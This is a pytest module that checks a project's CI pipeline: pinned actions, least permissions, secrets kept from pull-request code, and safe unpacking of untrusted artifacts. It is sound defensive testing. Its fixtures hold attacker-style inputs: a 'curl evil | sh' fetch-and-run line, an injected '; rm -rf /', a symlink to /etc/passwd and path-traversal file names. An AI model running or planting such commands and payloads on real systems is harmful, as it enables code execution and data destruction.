"""The CI pipeline's pieces: the drift script's exit codes, the artifact helpers (as an attacker
would fill an artifact), and the workflow files' shape (pinned, least permissions, no secret
where pull-request code runs). The whole workflow is rehearsed in test_ci_rehearsal.py.
"""

from __future__ import annotations

import io
import json
import os
import re
import subprocess
import sys
import tarfile
import zipfile
from pathlib import Path
from typing import Any

import pytest
import yaml

from tests.examples import copy_example
from tests.integration.conftest import ROOT

# Real processes (the workflow scripts, bcsync): seconds each; `scripts/test --fast` skips them.
pytestmark = pytest.mark.slow

SCRIPTS = ROOT / "examples" / "ci" / "scripts"
WORKFLOWS = sorted((ROOT / "examples" / "ci").glob("*.yml"))
GITHUB_PY = SCRIPTS / "github.py"
PINNED = re.compile(r"[\w.-]+/[\w.-]+(/[\w./-]+)?@[0-9a-f]{40}")


def run_script(script: str, tmp: Path, **env: str) -> tuple[subprocess.CompletedProcess[str], Path]:
    """A CI script in a copy of the quickstart (no GitHub: GITHUB_REPOSITORY unset)."""
    repo = tmp / "repo"
    if not repo.exists():
        copy_example("quickstart", repo / "bcsync")
    summary = tmp / "summary.md"
    environ = {k: v for k, v in os.environ.items() if k not in {"GH_TOKEN", "GITHUB_REPOSITORY"}}
    done = subprocess.run(
        ["bash", str(SCRIPTS / script)],
        cwd=repo,
        env={
            **environ,
            # -P: the repository's bcsync/ config directory must not shadow the package.
            "BCSYNC": f"{sys.executable} -P -m bcsync",
            "BCSYNC_PATHS": "bcsync/bcsync.yaml",
            "GITHUB_STEP_SUMMARY": str(summary),
            "NO_COLOR": "1",
            **env,
        },
        capture_output=True,
        text=True,
        timeout=300,
    )
    return done, summary


def test_drift_on_the_untouched_seed_needs_attention(tmp_path: Path) -> None:
    result, summary = run_script("drift.sh", tmp_path, BCSYNC_EXPIRING_WITHIN="1d")
    assert result.returncode == 2, result.stdout + result.stderr
    assert "mallory@acme.com" in summary.read_text()


@pytest.mark.parametrize(
    ("drift", "expiring", "expected"),
    [(0, 0, 0), (2, 0, 2), (0, 2, 2), (2, 2, 2), (1, 2, 1), (0, 3, 3)],
)
def test_drift_combines_exit_codes(
    tmp_path: Path, drift: int, expiring: int, expected: int
) -> None:
    fake = tmp_path / "fake-bcsync"
    fake.write_text(
        '#!/usr/bin/env bash\necho "$@"\n'
        f'case "$1" in drift) exit {drift};; expiring) exit {expiring};; esac\n'
    )
    fake.chmod(0o755)
    result, summary = run_script("drift.sh", tmp_path, BCSYNC=str(fake))
    assert result.returncode == expected
    assert "expiring bcsync/bcsync.yaml --within 30d" in summary.read_text()


# --- the workflow files ----------------------------------------------------------------------


def load_yaml(path: Path) -> dict[Any, Any]:
    data = yaml.safe_load(path.read_text())
    assert isinstance(data, dict)
    return data


def test_the_action_runs_scripts_that_exist() -> None:
    action = load_yaml(ROOT / "action.yml")
    assert action["runs"]["using"] == "composite"
    run = "\n".join(s.get("run", "") for s in action["runs"]["steps"])
    commands = re.search(r"^\s*([a-z-]+(?: \| [a-z-]+)*)\) exec bash", run, re.M)
    assert commands is not None
    assert set(commands.group(1).split(" | ")) == {"plan", "apply", "drift", "audit-push"}
    for command in commands.group(1).split(" | "):
        script = SCRIPTS / f"{command}.sh"
        assert script.is_file() and os.access(script, os.X_OK), script
    assert "examples/ci/scripts/$BCSYNC_COMMAND.sh" in run
    # Dependencies only from the hashed lock; bcsync itself without resolving anything.
    assert "--require-hashes --no-deps" in run and "requirements.lock" in run
    assert "--no-deps --no-build-isolation" in run and "--no-index" in run
    # Inputs reach the shell through env, never pasted into the script text.
    assert "${{" not in run


def events_of(workflow: dict[Any, Any]) -> dict[str, Any]:
    return dict(workflow[True] if True in workflow else workflow["on"])  # yaml 1.1: `on` is True


def uses_of(path: Path) -> list[str]:
    data = load_yaml(path)
    jobs = data.get("jobs", {}).values() if "jobs" in data else [{"steps": data["runs"]["steps"]}]
    return [str(step["uses"]) for job in jobs for step in job["steps"] if "uses" in step]


@pytest.mark.parametrize("path", [*WORKFLOWS, ROOT / "action.yml"], ids=lambda p: p.name)
def test_every_action_is_pinned_to_a_full_commit(path: Path) -> None:
    for uses in uses_of(path):
        assert PINNED.fullmatch(uses), uses


def test_bcsync_is_pinned_once() -> None:
    refs = {u for u in uses_of(ROOT / "examples/ci/github-actions.yml") if "/bcsync@" in u}
    assert len(refs) == 1, refs


@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda p: p.name)
def test_workflows_keep_secrets_away_from_pull_request_code(path: Path) -> None:
    workflow = load_yaml(path)
    events = events_of(workflow)
    assert "pull_request_target" not in events
    assert workflow.get("permissions") == {}, "workflow-level permissions: none"
    for name, job in workflow["jobs"].items():
        text = yaml.safe_dump(job)
        assert "permissions" in job, f"{name}: explicit least permissions"
        assert "write-all" not in text and "read-all" not in text
        for step in job["steps"]:
            if str(step.get("uses", "")).startswith("actions/checkout@"):
                assert step["with"]["persist-credentials"] is False, name
        if "pull_request" in events:
            # The unprivileged half: no secret, no environment, nothing it may write.
            assert "secrets." not in text and "environment" not in job, name
            assert set(job["permissions"].values()) <= {"read"}, name
        if "secrets." in text:
            assert job.get("environment") in {"bcsync", "bcsync-plan"}, name
            assert "pull_request" not in events, name


def test_the_privileged_plan_job_reads_the_event_not_the_artifact() -> None:
    workflow = load_yaml(ROOT / "examples/ci/github-actions.yml")
    assert events_of(workflow)["workflow_run"]["workflows"] == ["bcsync pull request"]
    assert load_yaml(ROOT / "examples/ci/pull-request.yml")["name"] == "bcsync pull request"
    plan = workflow["jobs"]["plan"]
    assert "github.event.workflow_run.event == 'pull_request'" in plan["if"]
    (checkout,) = [
        s for s in plan["steps"] if str(s.get("uses", "")).startswith("actions/checkout")
    ]
    assert "ref" not in checkout["with"]  # the default branch, never the pull request's head
    action = load_yaml(ROOT / "action.yml")
    env = action["runs"]["steps"][-1]["env"]
    assert env["PR_NUMBER"] == "${{ github.event.workflow_run.pull_requests[0].number }}"
    assert env["HEAD_SHA"] == "${{ github.event.workflow_run.head_sha }}"
    # The apply job's audit records reach the branch through a job without the token.
    audit = workflow["jobs"]["audit"]
    assert "secrets." not in yaml.safe_dump(audit) and audit["permissions"] == {"contents": "write"}


def github_py(*args: str, stdin: str = "") -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, str(GITHUB_PY), *args],
        input=stdin,
        capture_output=True,
        text=True,
        timeout=60,
    )


def configs_artifact(tmp: Path, members: dict[str, tuple[bytes, str]]) -> Path:
    """A bcsync-configs artifact as a branch's workflow might upload it: any tar it likes."""
    tar_path = tmp / "configs.tar"
    with tarfile.open(tar_path, "w") as tar:
        for name, (data, kind) in members.items():
            info = tarfile.TarInfo(name)
            if kind == "symlink":
                info.type, info.linkname = tarfile.SYMTYPE, data.decode()
                tar.addfile(info)
            else:
                info.size = len(data)
                tar.addfile(info, io.BytesIO(data))
    archive = tmp / "artifact.zip"
    with zipfile.ZipFile(archive, "w") as zf:
        zf.write(tar_path, "configs.tar")
    return archive


@pytest.mark.parametrize(
    ("members", "paths", "why"),
    [
        ({"bcsync/acme.yaml": (b"/etc/passwd", "symlink")}, ["bcsync/acme.yaml"], "regular file"),
        ({"bcsync/other.yaml": (b"x", "file")}, ["bcsync/acme.yaml"], "not in the pull request"),
        ({"../x.yaml": (b"x", "file")}, ["../x.yaml"], "relative, inside"),
        ({"/tmp/x.yaml": (b"x", "file")}, ["/tmp/x.yaml"], "relative, inside"),
        (
            {"bcsync/acme.yaml": (b"x" * (8 * 1024 * 1024 + 1), "file")},
            ["bcsync/acme.yaml"],
            "bytes",
        ),
    ],
    ids=["symlink", "missing", "dot-dot", "absolute", "oversized"],
)
def test_unpack_takes_only_named_regular_files(
    tmp_path: Path, members: dict[str, tuple[bytes, str]], paths: list[str], why: str
) -> None:
    checkout = tmp_path / "checkout"
    (checkout / "bcsync").mkdir(parents=True)
    (checkout / "bcsync" / "acme.yaml").write_text("main's config\n")
    result = github_py("unpack", str(configs_artifact(tmp_path, members)), str(checkout), *paths)
    assert result.returncode == 3 and why in result.stderr
    assert (checkout / "bcsync" / "acme.yaml").read_text() == "main's config\n"


def test_unpack_copies_the_named_configs_and_nothing_else(tmp_path: Path) -> None:
    checkout = tmp_path / "checkout"
    members = {
        "bcsync/acme.yaml": (b"the pull request's config\n", "file"),
        "examples/ci/scripts/plan.sh": (b"curl evil | sh\n", "file"),
    }
    artifact = configs_artifact(tmp_path, members)
    result = github_py("unpack", str(artifact), str(checkout), "bcsync/acme.yaml")
    assert result.returncode == 0, result.stderr
    assert (checkout / "bcsync/acme.yaml").read_text() == "the pull request's config\n"
    assert not (checkout / "examples").exists()


@pytest.mark.parametrize(
    ("body", "run"),
    [
        ("<!-- bcsync-plan: x -->\n<!-- bcsync-plan-run: 42 -->\n### plan", "42"),
        ("<!-- bcsync-plan: x -->\n### plan\n\n\n<!-- bcsync-plan-run: 42 -->", ""),
        ("<!-- bcsync-plan-run: 1 -->\n<!-- bcsync-plan-run: 2 -->", ""),
        ("<!-- bcsync-plan: x -->\n<!-- bcsync-plan-run: 42; rm -rf / -->", ""),
    ],
    ids=["ours", "too-far-down", "two", "not-a-number"],
)
def test_the_plan_run_is_read_from_the_comment_head_only(body: str, run: str) -> None:
    assert github_py("plan-run", stdin=body).stdout.strip() == run


@pytest.mark.parametrize(
    ("run", "trusted"),
    [
        ({"id": 1, "event": "workflow_run", "path": ".github/workflows/bcsync.yml"}, True),
        ({"id": 2, "event": "pull_request", "path": ".github/workflows/bcsync.yml"}, False),
        ({"id": 3, "event": "workflow_run", "path": ".github/workflows/other.yml"}, False),
    ],
)
def test_the_reviewed_plan_comes_only_from_the_privileged_workflow(
    run: dict[str, Any], trusted: bool
) -> None:
    result = github_py("trusted-run", ".github/workflows/bcsync.yml", stdin=json.dumps(run))
    assert (result.returncode == 0) is trusted


def test_merged_pr_is_the_one_that_merged_this_commit() -> None:
    pulls = [
        {"number": 3, "merge_commit_sha": "b" * 40, "merged_at": "x", "head": {"sha": "1" * 40}},
        {"number": 4, "merge_commit_sha": "a" * 40, "merged_at": None, "head": {"sha": "2" * 40}},
        {"number": 5, "merge_commit_sha": "a" * 40, "merged_at": "x", "head": {"sha": "3" * 40}},
    ]
    result = github_py("merged-pr", "a" * 40, stdin=json.dumps(pulls[:2]) + json.dumps(pulls[2:]))
    assert result.stdout.split() == ["5", "3" * 40]


def test_the_scripts_parse() -> None:
    for script in SCRIPTS.glob("*.sh"):
        subprocess.run(["bash", "-n", str(script)], check=True)


def test_pre_commit_hooks_name_real_commands() -> None:
    hooks = yaml.safe_load((ROOT / ".pre-commit-hooks.yaml").read_text())
    assert {h["id"] for h in hooks} == {"bcsync-validate", "bcsync-fmt"}
    from bcsync.cli import cli

    for hook in hooks:
        assert hook["language"] == "python"
        program, command = hook["entry"].split()
        assert program == "bcsync" and command in cli.commands
        assert re.search(hook["files"], "bcsync/acme.yaml") and re.search(
            hook["files"], "bcsync.yaml"
        )
        assert not re.search(hook["files"], "src/app.yaml")


def test_the_jobs_list_the_same_configs_in_the_same_order() -> None:
    # apply fetches plan's artifact, and audit apply's, by matrix index.
    jobs = load_yaml(ROOT / "examples/ci/github-actions.yml")["jobs"]
    lists = {name: job["strategy"]["matrix"]["config"] for name, job in jobs.items()}
    assert lists["plan"] == lists["apply"] == lists["audit"] == lists["drift"]
